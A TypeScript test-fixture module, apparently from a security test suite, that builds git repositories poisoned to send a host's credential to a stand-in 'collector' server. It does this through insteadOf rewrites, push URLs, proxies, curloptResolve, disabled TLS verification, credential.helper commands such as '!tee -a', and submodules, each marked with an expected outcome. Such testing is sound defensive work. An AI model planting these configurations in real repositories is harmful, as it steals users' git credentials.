/** Configuration that sends a host's credential to another server. */
import { join } from "node:path"
import type { Context, Workspace } from "./Corpus.ts"
import {
  after,
  configure,
  configured,
  git,
  inGit,
  object,
  point,
  put,
  rawCommit,
  remove,
  tree
} from "./Making.ts"

const credentials = (name: string, text: (context: Context) => string): Workspace =>
  configured(name, "credential", text)

const server = ({ origin }: Context) => new URL(origin).origin

const elsewhere: ReadonlyArray<Workspace> = [
  credentials(
    "url.<x>.insteadOf",
    (context) => `[url "${context.collector}/"]\n\tinsteadOf = ${server(context)}/`
  ),
  credentials(
    "url.<x>.insteadOf for any http URL",
    ({ collector }) => `[url "${collector}/"]\n\tinsteadOf = http://`
  ),
  credentials(
    "url.<x>.pushInsteadOf",
    (context) => `[url "${context.collector}/"]\n\tpushInsteadOf = ${server(context)}/`
  ),
  credentials(
    "remote.origin.pushurl",
    ({ collector }) => `[remote "origin"]\n\tpushurl = ${collector}/x.git`
  ),
  {
    name: "remote.origin.url",
    attack: "credential",
    wants: "delivered",
    make: after((context) => git(context, "remote", "set-url", "origin", `${context.collector}/x.git`))
  },
  credentials(
    "two push URLs",
    ({ collector, origin }) => `[remote "origin"]\n\tpushurl = ${origin}\n\tpushurl = ${collector}/x.git`
  ),
  credentials(
    "a remote named like the origin's URL",
    ({ collector, origin }) =>
      `[remote "${origin}"]\n\turl = ${collector}/x.git\n\tpushurl = ${collector}/x.git`
  ),
  credentials(
    "branch.<b>.pushRemote",
    ({ branch, collector }) =>
      `[remote "far"]\n\turl = ${collector}/x.git\n[branch "${branch}"]\n\tpushRemote = far\n[push]\n\tdefault = current`
  ),
  credentials(
    "remote.pushDefault",
    ({ collector }) =>
      `[remote "far"]\n\turl = ${collector}/x.git\n[remote]\n\tpushDefault = far\n[push]\n\tdefault = current`
  ),
  credentials(
    "url.insteadOf with TLS without verification",
    (context) =>
      `[url "${context.collectorTls}/"]\n\tinsteadOf = ${server(context)}/\n[http]\n\tsslVerify = false`
  ),
  {
    name: "a remote in .git/remotes",
    attack: "credential",
    wants: "delivered",
    make: after(async (context) => {
      await git(context, "config", "--remove-section", "remote.origin")
      put(context, ".git/remotes/origin", `URL: ${context.collector}/x.git\n`)
    })
  },
  {
    name: "a remote in .git/branches",
    attack: "credential",
    wants: "delivered",
    make: after(async (context) => {
      await git(context, "config", "--remove-section", "remote.origin")
      put(context, ".git/branches/origin", `${context.collector}/x.git\n`)
    })
  },
  {
    name: "insteadOf in config.worktree",
    attack: "credential",
    wants: "delivered",
    make: after((context) => {
      put(
        context,
        ".git/config.worktree",
        `[url "${context.collector}/"]\n\tinsteadOf = ${server(context)}/\n`
      )
      configure(context, "[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tworktreeConfig = true")
    })
  }
]

const between: ReadonlyArray<Workspace> = [
  credentials("http.proxy", ({ collector }) => `[http]\n\tproxy = ${collector}`),
  credentials("http.<url>.proxy", (context) => `[http "${server(context)}"]\n\tproxy = ${context.collector}`),
  credentials("remote.origin.proxy", ({ collector }) => `[remote "origin"]\n\tproxy = ${collector}`),
  credentials(
    "http.curloptResolve",
    (context) => `[http]\n\tcurloptResolve = ${new URL(context.origin).host}:${context.collectorAddress}`
  ),
  credentials(
    "http.<url>.curloptResolve",
    (context) => `[http "${server(context)}"]
\tcurloptResolve = ${new URL(context.origin).host}:${context.collectorAddress}`
  ),
  credentials(
    "credential.helper store, into the workspace",
    ({ repository }) => `[credential]\n\thelper = store --file=${repository}/.git/seen`
  ),
  credentials(
    "credential.helper store, below the home of the agent",
    ({ repository }) => `[credential]\n\thelper =\n\thelper = "!tee -a ${repository}/.git/seen >/dev/null;:"`
  )
]

const fetched: ReadonlyArray<Workspace> = [
  {
    name: "a lazy fetch of a missing object, by http",
    attack: "credential",
    wants: "unharmed",
    make: (context) => {
      const blob = object(context, "blob", "gone\n")
      const tip = rawCommit(context, {
        tree: tree(context, [{ mode: "100644", name: "gone", id: blob }]),
        parents: [context.base]
      })
      point(context, tip)
      remove(inGit(context, `objects/${blob.slice(0, 2)}/${blob.slice(2)}`))
      configure(
        context,
        `[core]\n\trepositoryFormatVersion = 1\n[extensions]\n\tpartialClone = far
[remote "far"]\n\turl = ${context.collector}/x.git\n\tpromisor = true`
      )
    }
  },
  {
    name: "a submodule of the attacker's server",
    attack: "credential",
    wants: "refused",
    make: async (context) => {
      put(context, ".gitmodules", `[submodule "sub"]\n\tpath = sub\n\turl = ${context.collector}/sub.git\n`)
      await git(context, "update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},sub`)
      await git(context, "add", ".gitmodules")
      await git(context, "commit", "-q", "-m", "Add a submodule")
      return git(context, "rev-parse", "HEAD")
    }
  },
  {
    name: "push.recurseSubmodules",
    attack: "credential",
    wants: "refused",
    make: async (context) => {
      const sub = join(context.repository, "sub")
      await git(context, "init", "-q", "-b", context.branch, sub)
      await git(context, "-C", sub, "commit", "-q", "--allow-empty", "-m", "sub")
      await git(context, "-C", sub, "remote", "add", "origin", `${context.collector}/x.git`)
      await git(context, "-C", sub, "update-ref", "refs/remotes/origin/old", "HEAD")
      await git(context, "-C", sub, "commit", "-q", "--allow-empty", "-m", "more")
      put(context, ".gitmodules", `[submodule "sub"]\n\tpath = sub\n\turl = ${context.collector}/x.git\n`)
      await git(context, "add", "-A")
      await git(context, "commit", "-q", "-m", "Add a submodule")
      configure(
        context,
        `[submodule "sub"]\n\tactive = true\n\turl = ${context.collector}/x.git\n[push]\n\trecurseSubmodules = on-demand`
      )
      return git(context, "rev-parse", "HEAD")
    }
  }
]

export const credential: ReadonlyArray<Workspace> = [...elsewhere, ...between, ...fetched]
